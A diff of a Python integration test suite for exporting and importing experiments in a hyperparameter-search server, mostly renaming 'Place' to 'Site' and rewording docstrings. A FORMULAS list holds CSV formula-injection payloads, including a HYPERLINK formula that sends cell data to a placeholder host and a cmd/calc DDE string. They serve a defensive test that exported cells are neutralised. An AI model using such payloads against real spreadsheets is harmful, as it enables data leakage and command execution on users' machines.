@@ -1,4 +1,4 @@
-"""Export and import: a search goes on elsewhere as it would have, and a file that is not whole changes nothing."""
+"""Export and import: a search continues elsewhere as it would have, and a damaged file changes nothing."""
 
 import asyncio
 import csv
@@ -28,7 +28,7 @@ from rungway_server.store.redis.snapshot.import_file import import_experiment
 from tests.integration.lives import create, halving
 from tests.support.audited import assert_sound
 from tests.support.calls import config
-from tests.support.moving import Place, exported, move
+from tests.support.moving import Site, exported, move
 from tests.support.searches import config_of
 from tests.support.searches import plan as plan_of
 
@@ -51,7 +51,7 @@ METRICS = [0.1, 1 / 3, 5e-324, 1.7976931348623157e308, -2.5, math.nan, math.inf,
 
 @dataclass
 class Player:
-    """Plays a search by a seed: the same seed and the same answers make the same calls."""
+    """Plays a search by a seed: the same seed and the same replies make the same calls."""
 
     store: RedisStore
     ref: ExperimentRef
@@ -94,16 +94,16 @@ class Player:
 
 
 def plain(value: Any) -> object:
-    """Everything of a decision but when, and under which fencing token; NaN is NaN."""
+    """A decision without its time and fencing token; NaN equals NaN."""
     return repr(value._replace(lease=Lease(value.lease.trial, 0), deadline_ms=0))
 
 
 @pytest.mark.parametrize("name", SEARCHES)
 @pytest.mark.parametrize("half", [0, 25, 90])
 async def test_a_search_goes_on_as_it_would_have(
-    name: str, half: int, places: tuple[Place, Place], ref: ExperimentRef
+    name: str, half: int, sites: tuple[Site, Site], ref: ExperimentRef
 ) -> None:
-    here, there = places
+    here, there = sites
     await create(here.store, ref, SEARCHES[name])
     original = Player(here.store, ref, random.Random(half), {}, [])
     await original.play(half)
@@ -113,31 +113,31 @@ async def test_a_search_goes_on_as_it_would_have(
     leases = sorted((given.lease for given in original.held.values()), key=lambda lease: lease.fencing_token)
     for lease in leases:
         await here.store.release(ref, "", [Release(lease)])
-    players = [Player(place.store, ref, random.Random(half + 1), {}, []) for place in places]
+    players = [Player(site.store, ref, random.Random(half + 1), {}, []) for site in sites]
     for player in players:
         await player.play(200)
     assert strip(players[0].said, len(leases)) == strip(players[1].said, 1 if leases else 0)
-    views = [await place.store.trials(ref, list(range(60)), curve=True) for place in places]
+    views = [await site.store.trials(ref, list(range(60)), curve=True) for site in sites]
     of_both = [[repr(replace(view, created_ms=0)) for view in each] for each in views]
     assert of_both[0] == of_both[1]
-    lives = [await place.store.explain(ref, 0) for place in places]
+    lives = [await site.store.explain(ref, 0) for site in sites]
     of_life = [repr([event.explanation for event in life]) for life, _ in lives]
     assert of_life[0] == of_life[1]
     await assert_sound(there.url, ref.experiment)
 
 
 async def test_a_search_that_paused_itself_arrives_with_its_reason(
-    places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path
+    sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path
 ) -> None:
-    here, there = places
+    here, there = sites
     await create(here.store, ref, halving(60) | {"pause_after_failures": 2})
     for number in range(2):
         (given,) = (await here.store.ask(ref, "", 1, "a worker")).assignments
         await here.store.fail(ref, "", given.lease, Outcome.ERROR, f"KeyError ä {number}")
     text = await move(here, ref, there)
-    for place in places:
-        assert (await place.store.progress(ref)).failing == "KeyError ä 1"
-        assert (await place.store.events(ref, "", 99))[0][-1].message == "KeyError ä 1"
+    for site in sites:
+        assert (await site.store.progress(ref)).failing == "KeyError ä 1"
+        assert (await site.store.events(ref, "", 99))[0][-1].message == "KeyError ä 1"
     _write_tables(read_export(text.splitlines(keepends=True)), tmp_path)
     with (tmp_path / "events.csv").open(newline="") as stream:
         *_, last = csv.DictReader(stream)
@@ -145,12 +145,12 @@ async def test_a_search_that_paused_itself_arrives_with_its_reason(
 
 
 def strip(said: list[Any], ahead: int) -> list[object]:
-    """What was said, with revisions counted without the releases."""
+    """The replies, with revisions counted as if there had been no releases."""
     return [(*line[:-1], line[-1] - ahead) for line in said]
 
 
-async def test_every_float_comes_back_bit_by_bit(places: tuple[Place, Place], ref: ExperimentRef) -> None:
-    here, there = places
+async def test_every_float_comes_back_bit_by_bit(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
+    here, there = sites
     rng = random.Random(3)
     metrics = [struct.unpack(">d", rng.randbytes(8))[0] for _ in range(300)]
     metrics = [math.nan if math.isnan(metric) else metric for metric in metrics] + METRICS
@@ -164,8 +164,8 @@ async def test_every_float_comes_back_bit_by_bit(places: tuple[Place, Place], re
     assert [repr(report.metric) for report in view.curve] == [repr(metric) for metric in metrics]
 
 
-async def test_an_old_lease_is_worth_nothing_after_an_import(places: tuple[Place, Place], ref: ExperimentRef) -> None:
-    here, there = places
+async def test_an_old_lease_is_worth_nothing_after_an_import(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
+    here, there = sites
     await create(here.store, ref, halving(9))
     (given,) = (await here.store.ask(ref, "", 1, "w")).assignments
     await move(here, ref, there)
@@ -176,8 +176,8 @@ async def test_an_old_lease_is_worth_nothing_after_an_import(places: tuple[Place
     assert replies[0].decision.value == "superseded"
 
 
-async def test_a_stopped_search_comes_back_stopped(places: tuple[Place, Place], ref: ExperimentRef) -> None:
-    here, there = places
+async def test_a_stopped_search_comes_back_stopped(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
+    here, there = sites
     await create(here.store, ref, halving(9))
     await here.store.ask(ref, "", 3, "w")
     await here.store.set_state(ref, ExperimentState.STOPPED)
@@ -185,8 +185,8 @@ async def test_a_stopped_search_comes_back_stopped(places: tuple[Place, Place], 
     assert (await there.store.progress(ExperimentRef("default", "another"))).state is ExperimentState.STOPPED
 
 
-async def test_a_name_that_is_taken_is_refused(places: tuple[Place, Place], ref: ExperimentRef) -> None:
-    here, there = places
+async def test_a_name_that_is_taken_is_refused(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
+    here, there = sites
     await create(here.store, ref, halving(9))
     await create(there.store, ref, halving(3))
     with pytest.raises(ExperimentExists):
@@ -197,7 +197,7 @@ async def test_a_name_that_is_taken_is_refused(places: tuple[Place, Place], ref:
 
 
 def changed(text: str, change: Callable[[dict[str, Any]], object], which: str) -> str:
-    """The file with one record changed, and an end that fits again."""
+    """The file with one record changed and a valid last line."""
     lines = [json.loads(line) for line in text.splitlines()[:-1]]
     change(next(line for line in lines if which in line))
     body = "".join(json.dumps(line) + "\n" for line in lines)
@@ -228,8 +228,8 @@ DAMAGES: dict[str, Callable[[str], str]] = {
 
 
 @pytest.mark.parametrize("name", DAMAGES)
-async def test_a_damaged_file_leaves_nothing_behind(name: str, places: tuple[Place, Place], ref: ExperimentRef) -> None:
-    here, there = places
+async def test_a_damaged_file_leaves_nothing_behind(name: str, sites: tuple[Site, Site], ref: ExperimentRef) -> None:
+    here, there = sites
     await create(here.store, ref, halving(9))
     await Player(here.store, ref, random.Random(1), {}, []).play(10)
     text = DAMAGES[name](await exported(here.store, ref))
@@ -238,9 +238,9 @@ async def test_a_damaged_file_leaves_nothing_behind(name: str, places: tuple[Pla
     assert await there.redis.keys("*") == []
 
 
-async def test_what_is_exported_is_of_one_moment(places: tuple[Place, Place], ref: ExperimentRef) -> None:
-    """While workers work, each export is sound."""
-    here, there = places
+async def test_what_is_exported_is_of_one_moment(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
+    """Each export is sound even while workers work."""
+    here, there = sites
     await create(here.store, ref, halving(200))
     players = [Player(here.store, ref, random.Random(number), {}, []) for number in range(4)]
     playing = [asyncio.ensure_future(player.play(100)) for player in players]
@@ -249,13 +249,13 @@ async def test_what_is_exported_is_of_one_moment(places: tuple[Place, Place], re
     await asyncio.gather(*playing)
 
 
-async def test_nothing_to_export(places: tuple[Place, Place], ref: ExperimentRef) -> None:
+async def test_nothing_to_export(sites: tuple[Site, Site], ref: ExperimentRef) -> None:
     with pytest.raises(UnknownExperiment):
-        await exported(places[0].store, ref)
+        await exported(sites[0].store, ref)
 
 
-async def test_tables(places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path) -> None:
-    here, _ = places
+async def test_tables(sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path) -> None:
+    here, _ = sites
     await create(here.store, ref, halving(9))
     await Player(here.store, ref, random.Random(1), {}, []).play(30)
     text = await exported(here.store, ref)
@@ -276,11 +276,11 @@ async def test_tables(places: tuple[Place, Place], ref: ExperimentRef, tmp_path:
 ODD_NAMES = ("learning-rate", "weight.decay", "a=b", "a/b", "batch size", "a`b")
 
 
-async def test_names_of_any_kind_are_queued_and_exported_by_one_spelling(
-    places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path
+async def test_names_of_any_kind_are_enqueued_and_exported_by_one_spelling(
+    sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path
 ) -> None:
-    """What `--set` takes is the name of the column, and no two parameters share one."""
-    here, there = places
+    """`--set` accepts the names of the columns, and no two parameters share a name."""
+    here, there = sites
     unit = {"type": "double", "minval": 0, "maxval": 1}
     kind = {"type": "categorical", "vals": ["a", "b"]}
     space: dict[str, Any] = {name: unit for name in ODD_NAMES} | {"weight": {"decay": unit}}
@@ -311,10 +311,10 @@ FORMULAS = ['=HYPERLINK("http://h/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "
 
 
 async def test_no_cell_of_a_table_begins_like_a_formula(
-    places: tuple[Place, Place], ref: ExperimentRef, tmp_path: Path
+    sites: tuple[Site, Site], ref: ExperimentRef, tmp_path: Path
 ) -> None:
-    """Workers, what they say, values and names of hyperparameters; numbers stay what they are."""
-    here, _ = places
+    """Workers, their messages, values and names of hyperparameters; numbers stay numbers."""
+    here, _ = sites
     space = {"=name": {"type": "categorical", "vals": FORMULAS}, "shift": {"type": "categorical", "vals": [-1, -0.5]}}
     await create(here.store, ref, config("random", space=space, max_trials=12))
     for worker in FORMULAS:
